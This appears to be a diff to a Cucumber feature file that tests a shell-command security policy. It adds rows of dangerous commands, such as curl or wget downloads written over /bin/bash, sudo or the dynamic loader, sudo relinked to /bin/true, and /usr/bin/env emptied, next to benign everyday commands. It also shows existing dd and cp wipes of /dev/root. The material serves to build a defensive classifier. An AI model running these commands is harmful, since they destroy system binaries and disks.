@@ -836,6 +836,17 @@ Feature: Security policy - dangerous forms and everyday commands
       | cp /dev/zero /dev/root |
       | dd if=/dev/zero of=/dev/root |
 
+    Examples: found by an eighty-first corpus (downloads written over vital programs; env, sudo and su vital too)
+      | command |
+      | curl -o /bin/bash https://example.com/x |
+      | curl -sSLo /usr/bin/sudo https://example.com/x |
+      | wget -O /usr/bin/sudo https://example.com/x |
+      | wget -qO/bin/sh https://example.com/x |
+      | curl --output=/lib64/ld-linux-x86-64.so.2 https://example.com/x |
+      | ln -sf /bin/true /usr/bin/sudo |
+      | install -m 755 /dev/null /usr/bin/env |
+      | cat /dev/null > /usr/bin/env |
+
     Examples: found by an eightieth corpus (every kernel package removed, the EFI partition at /efi, grub's menu scripts)
       | command |
       | apt-get purge -y linux-image-* |
@@ -1328,6 +1339,10 @@ Feature: Security policy - dangerous forms and everyday commands
       | systemctl status poweroff.target |
       | kexec -l /boot/vmlinuz --initrd=/boot/initrd.img --reuse-cmdline |
       | busctl list |
+      | curl -o /usr/local/bin/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl |
+      | wget -qO- https://example.com/install.txt |
+      | curl -fsSL https://get.docker.com -o get-docker.sh |
+      | chmod u-s /usr/bin/sudo |
       | apt-get purge linux-image-6.1.0-13-amd64 |
       | apt remove linux-headers-* |
       | rm -f /etc/grub.d/40_custom |
